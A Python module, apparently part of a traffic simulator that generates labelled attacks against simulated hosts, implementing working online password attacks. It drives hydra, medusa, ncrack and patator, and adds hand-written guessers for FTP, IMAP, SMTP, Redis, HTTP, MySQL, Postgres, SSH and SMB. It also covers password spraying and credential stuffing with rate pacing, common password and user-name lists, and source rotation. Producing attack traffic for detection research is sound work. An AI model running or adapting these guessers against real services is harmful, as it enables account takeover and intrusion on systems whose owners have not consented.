"""Guessing credentials: hydra, medusa, ncrack, patator and our own, on every service that asks for a password.

Owns: word lists, paces, and the dialogues of our own guessers. Never guesses against a host that does not offer the
service. In: a context and bounds. Out: attempts; truth by program and target, or by socket.
"""

import asyncio
import base64
import hashlib
import os
import struct
from dataclasses import dataclass

from ..catalog import hostile
from ..draws import log_uniform
from .crew import Bounds, Pace, address_of, attempts, run_bounded, victim, victims

GUESS, SPRAY, STUFF = "T1110.001", "T1110.003", "T1110.004"
_STEMS = tuple(
    """
    password letmein welcome summer winter dragon monkey football qwerty admin root master sunshine shadow changeme
    secret login hello office company backup oracle
""".split()
)
_NAMES = tuple(
    """
    root admin administrator test guest user oracle postgres mysql ftp www backup ubuntu pi deploy git jenkins
    operator support service nagios info sales
""".split()
)


@dataclass(frozen=True)
class Target:
    """A kind of service: who offers it, where, and how each tool calls it ("" where it cannot)."""

    services: tuple
    port: int
    hydra: str = ""
    medusa: str = ""
    ncrack: str = ""
    patator: str = ""
    users: tuple = ()


TARGETS = {
    "ssh": Target(("sshd",), 22, "ssh", "ssh", "ssh", "ssh_login"),
    "ftp": Target(("ftp",), 21, "ftp", "ftp", "ftp", "ftp_login"),
    "http-basic": Target(("api",), 8000, "http-get", "http", "http", "http_fuzz"),
    "http-form": Target(("weakweb", "nginx"), 80, "http-post-form", "", "", "http_fuzz"),
    "smb": Target(("smb",), 445, "", "smbnt", "smb", ""),
    "mysql": Target(("mysql",), 3306, "mysql", "mysql", "mysql", "mysql_login", ("root", "app", "admin")),
    "postgres": Target(
        ("postgres",), 5432, "postgres", "postgres", "psql", "pgsql_login", ("postgres", "app", "admin")
    ),
    "imap": Target(("mail",), 143, "imap", "imap", "imap", "imap_login"),
    "smtp": Target(("mail",), 587, "smtp", "smtp", "", "smtp_login"),
    "redis": Target(("redis",), 6379, "redis", users=("default",)),
}
WEB_PORTS = {"weakweb": 8080, "nginx": 80, "api": 8000}


class _Aim:
    """One service of one host, and the lists of words against it."""

    def __init__(self, ctx, kind, port, where=None, six_share=0.15):
        what, rng = TARGETS[kind], ctx.rng
        host = victim(ctx, *what.services, where=where)
        self.service = next(name for name in what.services if host.offers(name))
        usual = WEB_PORTS.get(self.service, what.port)
        own_port = kind not in ("imap", "smtp")  # a mail server has several
        self.kind, self.address = kind, address_of(ctx, host, six_share)
        self.port = port or (host.port(self.service, usual) if own_port else usual)
        self.path = "/admin/"
        self.form_path = rng.choice(("/login", "/login", "/wp-login.php", "/user/login"))
        self.to = [(self.address, self.port, "tcp")]
        self.url_host = f"[{self.address}]" if ":" in self.address else self.address


def passwords(rng, count) -> list[str]:
    """`count` passwords as lists of them look."""
    made = {}
    while len(made) < count:
        stem = rng.choice(_STEMS)
        made[
            rng.choice(
                (
                    stem,
                    stem.capitalize(),
                    f"{stem}{rng.randrange(10 ** rng.randint(1, 4))}",
                    f"{stem}!{rng.randrange(100)}",
                    f"{stem.capitalize()}{rng.randrange(1990, 2027)}",
                    f"{rng.randrange(10**7):06d}",
                    "".join(rng.choices("abcdefghijkmnpqrstuvwxyz23456789", k=rng.randint(5, 16))),
                )
            )
        ] = None
    return list(made)


def credentials(ctx, kind, count) -> list[tuple[str, str]]:
    """`count` guesses: one user deeply or some users; in a third of the episodes the right one is among them."""
    rng = ctx.rng
    staff = [name for name, _ in ctx.site.users]
    pool = [*(TARGETS[kind].users or rng.sample(_NAMES, 8)), *rng.sample(staff, 4)]
    users = rng.sample(pool, min(len(pool), rng.choice((1, 1, 1, 2, 4, 8))))
    words = passwords(rng, -(-count // len(users)))
    found = [(u, w) for w in words for u in users] if rng.random() < 0.5 else [(u, w) for u in users for w in words]
    found = found[:count]
    if rng.random() < 0.33 and count > 3:
        found[rng.randrange(count // 3, count)] = rng.choice(ctx.site.users)
    return found


def _lists(ctx, kind, count):
    """User and password files whose product is at most `count`, now and then with a right pair in it."""
    rng = ctx.rng
    users = min(max(count // 2, 1), rng.choice((1, 1, 1, 2, 4, 8)))
    pool = list(
        dict.fromkeys(
            [*(TARGETS[kind].users or rng.sample(_NAMES, 8)), *(name for name, _ in rng.sample(ctx.site.users, 6))]
        )
    )
    names, words = rng.sample(pool, min(users, len(pool))), passwords(rng, max(1, count // users))
    if rng.random() < 0.33 and len(words) > 2:
        names[rng.randrange(len(names))], words[rng.randrange(len(words) // 3, len(words))] = rng.choice(ctx.site.users)
    tag = rng.getrandbits(32)
    user_file, word_file = ctx.directory / f"users-{tag:08x}", ctx.directory / f"words-{tag:08x}"
    user_file.write_text("\n".join(names) + "\n")
    word_file.write_text("\n".join(words) + "\n")
    return user_file, word_file, len(names) * len(words)


# Programs.


def _register(kind, tool, call):
    @hostile(f"{kind}-guess-{tool}", label="brute-force", tool=tool, technique=GUESS)
    async def guess(ctx, flows, seconds, *, port=None, where=None, hands=None, per_s=None):
        aim = _Aim(ctx, kind, port, where, 0 if tool in ("medusa", "ncrack", "patator") else 0.15)
        await call(ctx, aim, flows, seconds, hands or round(log_uniform(ctx.rng, 1, 32)), per_s)


async def _hydra(ctx, aim, flows, seconds, hands, per_s):
    rng = ctx.rng
    slow = per_s is not None or rng.random() < 0.35
    gap_s = max(1, round(1 / per_s)) if per_s else round(log_uniform(rng, 1, 30))
    count = max(1, min(flows - 1, int(seconds / gap_s) + 1 if slow else flows - 1))
    users, words, number = _lists(ctx, aim.kind, count)
    module = TARGETS[aim.kind].hydra
    pace = (
        ["-t", "1", "-c", str(gap_s)]
        if slow
        else ["-t", str(min(hands, max(number // 2, 1), 16 if module == "ssh" else 64))]
    )
    if not slow and rng.random() < 0.3:
        pace += ["-W", str(rng.randint(1, 5))]
    options = {
        "http-post-form": f"{aim.form_path}:{rng.choice(('username', 'user', 'log'))}=^USER^&password=^PASS^:F=",
        "http-get": aim.path,
    }.get(module)
    if module == "http-post-form":
        options += rng.choice(("invalid", "failed", "Invalid"))
    argv = [
        "hydra",
        "-I",
        "-K",
        "-w",
        str(rng.randint(5, 32)),
        *pace,
        *(["-u"] if rng.random() < 0.5 else []),
        *(["-f"] if rng.random() < 0.3 else []),
        *(["-6"] if ":" in aim.address else []),
    ]
    argv += ["-P", words] if module == "redis" else ["-L", users, "-P", words]
    await run_bounded(
        ctx,
        [*argv, "-s", str(aim.port), f"{module}://{aim.url_host}" + (options or "")],
        to=aim.to,
        flows=flows,
        seconds=seconds,
        cwd=ctx.directory,
    )


async def _medusa(ctx, aim, flows, seconds, hands, per_s):
    rng = ctx.rng
    rate = per_s or log_uniform(rng, 0.5, 20)
    users, words, number = _lists(ctx, aim.kind, max(1, min(flows, int(rate * seconds))))
    argv = [
        "medusa",
        "-b",
        "-h",
        aim.address,
        "-n",
        str(aim.port),
        "-U",
        users,
        "-P",
        words,
        "-M",
        TARGETS[aim.kind].medusa,
        "-t",
        str(min(hands, number, 16)),
        "-r",
        str(rng.randint(1, 5)),
        "-R",
        "0",
        "-g",
        str(rng.randint(2, 8)),
    ]
    if aim.kind == "http-basic":
        argv += ["-m", f"DIR:{aim.path}"]
    argv += ["-L"] if rng.random() < 0.3 else []
    argv += ["-f"] if rng.random() < 0.3 else []
    await run_bounded(ctx, argv, to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)


async def _ncrack(ctx, aim, flows, seconds, hands, per_s):
    rng = ctx.rng
    users, words, _ = _lists(ctx, aim.kind, flows)
    most = max(1, min(hands, 32))
    options = [f"cl={min(most, rng.randint(1, 8))}", f"CL={most}", f"to={max(int(seconds), 2)}s"]
    if rng.random() < 0.6:
        options.append(f"at={rng.randint(1, 6)}")
    if per_s or aim.kind == "smb" or rng.random() < 0.4:  # a refused SMB dialect it tries again at once, without end
        options.append(f"cd={1000 / per_s if per_s else log_uniform(rng, 20, 8000):.0f}ms")
    if aim.kind == "http-basic":
        options.append("path=" + aim.path.strip("/"))
    argv = [
        "ncrack",
        "-U",
        users,
        "-P",
        words,
        *(["--passwords-first"] if rng.random() < 0.4 else []),
        *(["-f"] if rng.random() < 0.3 else []),
        "-m",
        f"{TARGETS[aim.kind].ncrack}:{','.join(options)}",
        "-T",
        str(rng.randint(2, 5)),
        f"{TARGETS[aim.kind].ncrack}://{aim.url_host}:{aim.port}",
    ]
    await run_bounded(ctx, argv, to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)


async def _patator(ctx, aim, flows, seconds, hands, per_s):
    rng = ctx.rng
    users, words, _ = _lists(ctx, aim.kind, flows)
    module = TARGETS[aim.kind].patator
    threads = min(hands, 4)  # each is a process
    if module == "http_fuzz":
        target = [f"url=http://{aim.url_host}:{aim.port}{aim.path}", "method=GET", "user_pass=FILE0:FILE1"]
        if aim.kind == "http-form":
            target = [
                f"url=http://{aim.url_host}:{aim.port}{aim.form_path}",
                "method=POST",
                "body=username=FILE0&password=FILE1",
                "follow=0",
            ]
        target.append(f"resolve={aim.address}:{aim.address}")
    else:
        target = [f"host={aim.address}", f"port={aim.port}", "user=FILE0", "password=FILE1"]
    target += ["persistent=0"] if rng.random() < 0.5 and module not in ("mysql_login", "pgsql_login") else []
    # It reads its standard input for commands, without pause once that has ended: a FIFO never ends.
    keys = ctx.directory / f"keys-{rng.getrandbits(32):08x}"
    os.mkfifo(keys)
    argv = [
        "sh",
        "-c",
        'exec 0<>"$0"; exec "$@"',
        keys,
        "patator",
        module,
        *target,
        f"0={users}",
        f"1={words}",
        "-t",
        str(threads),
        "--max-retries=0",
        f"--timeout={rng.randint(3, 10)}",
    ]
    rate = per_s or (log_uniform(rng, 0.1, 5) if rng.random() < 0.5 else None)
    argv += [f"--rate-limit={threads / rate:.2f}"] if rate else []
    await run_bounded(ctx, argv, to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)


# Our own: a dialogue logs in on an open connection as often as the server lets it.


async def _line(reader):
    line = await reader.readline()
    if not line:
        raise ConnectionError("closed")
    return line


async def _ftp_reply(reader):
    while True:
        line = await _line(reader)
        if line[3:4] == b" " and line[:3].isdigit():
            return int(line[:3])


class _Dialogue:
    """A protocol's way to try passwords: `open` once a connection, `guess` once an attempt (True: it was right)."""

    def __init__(self, aim, rng):
        self.aim, self.rng = aim, rng

    async def open(self, reader, writer):
        """Reads what the server says first."""

    async def guess(self, reader, writer, user, password) -> bool:
        """Tries one password."""
        raise NotImplementedError


class _Ftp(_Dialogue):
    async def open(self, reader, writer):
        await _ftp_reply(reader)

    async def guess(self, reader, writer, user, password):
        writer.write(f"USER {user}\r\n".encode())
        if await _ftp_reply(reader) == 331:
            writer.write(f"PASS {password}\r\n".encode())
            return await _ftp_reply(reader) == 230
        return False


class _Imap(_Dialogue):
    async def open(self, reader, writer):
        self.tag = 0
        await _line(reader)

    async def guess(self, reader, writer, user, password):
        self.tag += 1
        tag = f"a{self.tag}"
        writer.write(f'{tag} LOGIN "{user}" "{password}"\r\n'.encode())
        while True:
            line = await _line(reader)
            if line.startswith(tag.encode()):
                return b" OK" in line


class _Smtp(_Dialogue):
    async def open(self, reader, writer):
        await _ftp_reply(reader)
        writer.write(
            f"EHLO {self.rng.choice(('localhost', 'mail', 'pc', 'WIN-' + str(self.rng.randrange(9999))))}\r\n".encode()
        )
        while (await _line(reader))[3:4] == b"-":
            pass

    async def guess(self, reader, writer, user, password):
        token = base64.b64encode(f"\0{user}\0{password}".encode()).decode()
        writer.write(f"AUTH PLAIN {token}\r\n".encode())
        return await _ftp_reply(reader) == 235


class _Redis(_Dialogue):
    async def guess(self, reader, writer, user, password):
        writer.write(
            f"AUTH {password}\r\n".encode() if self.rng.random() < 0.7 else f"AUTH {user} {password}\r\n".encode()
        )
        return (await _line(reader)).startswith(b"+OK")


class _Http(_Dialogue):
    """Basic authorisation or a login form, HTTP/1.1 written by hand."""

    def __init__(self, aim, rng):
        super().__init__(aim, rng)
        self.agent = rng.choice(
            ("Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0", "python-requests/2.31.0", "curl/7.88.1", "Hydra")
        )
        self.close = rng.random() < 0.4
        self.field = rng.choice(("username", "user", "login", "email"))

    async def guess(self, reader, writer, user, password):
        head = [f"Host: {self.aim.url_host}", f"User-Agent: {self.agent}", "Accept: */*"]
        body = b""
        if self.aim.kind == "http-basic":
            token = base64.b64encode(f"{user}:{password}".encode()).decode()
            first = f"GET {self.aim.path} HTTP/1.1"
            head.append(f"Authorization: Basic {token}")
        else:
            first = f"POST {self.aim.form_path} HTTP/1.1"
            body = f"{self.field}={user}&password={password}".encode()
            head += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body)}"]
        if self.close:
            head.append("Connection: close")
        writer.write("\r\n".join([first, *head, "", ""]).encode() + body)
        status = (await _line(reader)).split()[1]
        length, chunked, over = 0, False, self.close
        while (line := (await _line(reader)).strip().lower()) != b"":
            name, _, value = line.partition(b":")
            length = int(value) if name == b"content-length" else length
            chunked |= name == b"transfer-encoding"
            over |= name == b"connection" and b"close" in value
        if chunked:
            while (size := int(await _line(reader), 16)) > 0:
                await reader.readexactly(size + 2)
            await _line(reader)
        elif length:
            await reader.readexactly(length)
        if over:
            raise ConnectionError("answered and closed")
        return self.aim.kind == "http-form" and status == b"302"


class _Mysql(_Dialogue):
    """mysql_native_password, one attempt a connection."""

    async def guess(self, reader, writer, user, password):
        hello = await self._packet(reader)
        after_version = hello.index(b"\0", 1) + 1
        salt = hello[after_version + 4 : after_version + 12] + hello[after_version + 31 : after_version + 43]
        one = hashlib.sha1(password.encode()).digest()
        two = hashlib.sha1(salt + hashlib.sha1(one).digest()).digest()
        proof = bytes(a ^ b for a, b in zip(one, two, strict=True))
        body = (
            struct.pack("<IIB23x", 0x000FA685, 1 << 24, 33)
            + user.encode()
            + b"\0"
            + bytes([20])
            + proof
            + b"mysql_native_password\0"
        )
        writer.write(len(body).to_bytes(3, "little") + b"\x01" + body)
        answer = await self._packet(reader)
        if answer[:1] != b"\x00":
            raise ConnectionError("refused")
        return True

    async def _packet(self, reader):
        head = await reader.readexactly(4)
        return await reader.readexactly(int.from_bytes(head[:3], "little"))


class _Postgres(_Dialogue):
    """An MD5 or SCRAM first message, one attempt a connection."""

    async def guess(self, reader, writer, user, password):
        fields = b"\0".join([b"user", user.encode(), b"database", user.encode(), b"", b""])
        writer.write(struct.pack(">II", 8 + len(fields), 196608) + fields)
        kind, body = await self._message(reader)
        if kind != b"R":
            raise ConnectionError("refused")
        method = int.from_bytes(body[:4])
        if method == 5:
            inner = hashlib.md5((password + user).encode()).hexdigest().encode()
            answer = b"md5" + hashlib.md5(inner + body[4:8]).hexdigest().encode() + b"\0"
        elif method == 10:
            first = b"n,,n=,r=" + base64.b64encode(self.rng.randbytes(18))
            answer = b"SCRAM-SHA-256\0" + len(first).to_bytes(4) + first
        else:
            answer = password.encode() + b"\0"
        writer.write(b"p" + struct.pack(">I", 4 + len(answer)) + answer)
        kind, body = await self._message(reader)
        if method == 10 and kind == b"R":
            # The salted hash is not worth its cost here: a wrong proof is refused like a wrong password.
            nonce = dict(f.split(b"=", 1) for f in body[4:].split(b","))[b"r"]
            answer = b"c=biws,r=" + nonce + b",p=" + base64.b64encode(hashlib.sha256(password.encode()).digest())
            writer.write(b"p" + struct.pack(">I", 4 + len(answer)) + answer)
            kind, body = await self._message(reader)
        if kind == b"E":
            raise ConnectionError("refused")
        return True

    async def _message(self, reader):
        head = await reader.readexactly(5)
        return head[:1], await reader.readexactly(int.from_bytes(head[1:]) - 4)


DIALOGUES = {
    "ftp": _Ftp,
    "imap": _Imap,
    "smtp": _Smtp,
    "redis": _Redis,
    "http-basic": _Http,
    "http-form": _Http,
    "mysql": _Mysql,
    "postgres": _Postgres,
}


class _Guesser:
    """Works through a list of guesses on as many connections as it takes."""

    def __init__(self, ctx, aim, guesses, bounds, *, stop):
        self._ctx, self._aim, self._guesses, self._bounds, self._stop = ctx, aim, iter(guesses), bounds, stop
        rng = ctx.rng
        self._dialogue = None if aim.kind in ("ssh", "smb") else DIALOGUES[aim.kind](aim, rng)
        self._per_connection = 1 if aim.kind in ("mysql", "postgres") else rng.choice((1, 1, 2, 3, 6, 100))
        self._think_s = rng.choice((0, 0, log_uniform(rng, 0.05, 3)))
        self._timeout_s = rng.uniform(4, 15)
        self._many_sources = rng.random() < 0.25

    async def attempt(self):
        """One connection; False when the list is used up or the password is found."""
        if self._many_sources and ":" not in self._aim.address:
            self._ctx.pick_source()
        try:
            if self._aim.kind == "ssh":
                return await asyncio.wait_for(self._ssh(), 2 * self._timeout_s)
            if self._aim.kind == "smb":
                return await asyncio.wait_for(self._smb(), 2 * self._timeout_s)
            return await self._talk()
        except (OSError, TimeoutError, EOFError, ValueError, IndexError, KeyError):
            return None

    async def _talk(self):
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(self._aim.address, self._aim.port), self._timeout_s
        )
        try:
            await asyncio.wait_for(self._dialogue.open(reader, writer), self._timeout_s)
            for _ in range(self._per_connection):
                pair = next(self._guesses, None)
                if pair is None or self._bounds.left_s <= 0:
                    return False
                if await asyncio.wait_for(self._dialogue.guess(reader, writer, *pair), self._timeout_s) and self._stop:
                    return False
                if self._think_s:
                    await self._ctx.sleep(self._think_s * self._ctx.rng.uniform(0.5, 1.5))
            return None
        finally:
            writer.close()

    async def _ssh(self):
        import asyncssh

        pairs = [p for p in (next(self._guesses, None) for _ in range(min(self._per_connection, 3))) if p]
        if not pairs:
            return False
        words = iter([word for _, word in pairs])

        class Client(asyncssh.SSHClient):
            def password_auth_requested(self):
                return next(words, None)

        try:
            connection = await asyncssh.connect(
                self._aim.address,
                self._aim.port,
                username=pairs[0][0],
                client_factory=Client,
                known_hosts=None,
                config=None,
                client_keys=None,
                agent_path=None,
                gss_host=None,
                preferred_auth="password",
                login_timeout=self._timeout_s,
            )
        except asyncssh.Error:
            return None
        connection.close()
        await connection.wait_closed()
        return not self._stop

    async def _smb(self):
        from impacket.smbconnection import SessionError, SMBConnection

        pair = next(self._guesses, None)
        if pair is None:
            return False

        def login():
            connection = SMBConnection(
                "*SMBSERVER", self._aim.address, sess_port=self._aim.port, timeout=int(self._timeout_s)
            )
            try:
                connection.login(*pair)
                return not connection.isGuestSession()
            except SessionError:
                return False
            finally:
                connection.close()

        return None if not await asyncio.to_thread(login) else not self._stop


async def _own(ctx, kind, flows, seconds, *, port=None, where=None, per_s=None, hands=None, guesses=None, manner=None):
    rng = ctx.rng
    aim = _Aim(ctx, kind, port, where)
    fastest = 4 if kind in ("ssh", "smb") else 50
    per_s = per_s or log_uniform(rng, max(1 / 60, 4 / seconds), fastest)
    bounds = Bounds(ctx, flows, seconds)
    guesser = _Guesser(ctx, aim, guesses or credentials(ctx, kind, 3 * flows), bounds, stop=rng.random() < 0.4)
    hands = hands or (1 if per_s < 0.5 else rng.choice((1, 2, 4, 8, 16, 64 if fastest > 4 else 8)))
    await attempts(ctx, bounds, Pace(rng, per_s, manner), hands, guesser.attempt)


def _register_own(kind):
    tool = {"ssh": "asyncssh", "smb": "impacket"}.get(kind, "asyncio")

    @hostile(f"{kind}-guess-python", label="brute-force", tool=tool, technique=GUESS)
    async def guess(ctx, flows, seconds, **options):
        await _own(ctx, kind, flows, seconds, **options)


for _kind, _what in TARGETS.items():
    for _tool, _call in (("hydra", _hydra), ("medusa", _medusa), ("ncrack", _ncrack), ("patator", _patator)):
        if getattr(_what, _tool):
            _register(_kind, _tool, _call)
    _register_own(_kind)


def _offered(ctx, kinds, where):
    found = [k for k in kinds if victims(ctx, *TARGETS[k].services, where=where)]
    if not found:
        raise LookupError("nobody to guess at")
    return ctx.rng.choice(found)


@hostile("password-spray", label="brute-force", tool="asyncio", technique=SPRAY)
async def spray(ctx, flows, seconds, *, kind=None, where=None, per_s=None):
    """A few passwords over all users of the company, slowly: a round, a pause, the next password."""
    rng = ctx.rng
    kind = kind or _offered(ctx, ("ssh", "imap", "smtp", "ftp", "http-form", "smb"), where)
    users = [name for name, _ in ctx.site.users]
    rng.shuffle(users)
    guesses = [(user, word) for word in passwords(rng, max(1, flows // len(users) + 1)) for user in users]
    per_s = per_s or log_uniform(rng, max(1 / 30, 4 / seconds), 3)
    await _own(ctx, kind, flows, seconds, where=where, per_s=per_s, guesses=guesses, hands=rng.choice((1, 1, 3)))


@hostile("credential-stuffing", label="brute-force", tool="asyncio", technique=STUFF)
async def stuff(ctx, flows, seconds, *, kind=None, where=None, per_s=None):
    """Each user once with a password from elsewhere, at the pace of a person, a few of them right."""
    rng = ctx.rng
    kind = kind or _offered(ctx, ("http-form", "http-form", "http-basic", "imap", "smtp"), where)
    guesses = [
        (f"{rng.choice(_STEMS)}{rng.randrange(1000)}@{rng.choice(('mail', 'corp', 'home'))}.example", word)
        for word in passwords(rng, flows)
    ]
    for place in rng.sample(range(len(guesses)), min(len(guesses), rng.randint(0, 3))):
        guesses[place] = rng.choice(ctx.site.users)
    per_s = per_s or log_uniform(rng, max(1 / 40, 4 / seconds), 1)
    await _own(
        ctx,
        kind,
        flows,
        seconds,
        where=where,
        per_s=per_s,
        guesses=guesses,
        hands=rng.choice((1, 1, 2, 4)),
        manner=rng.choice(("human", "random", "bursts")),
    )
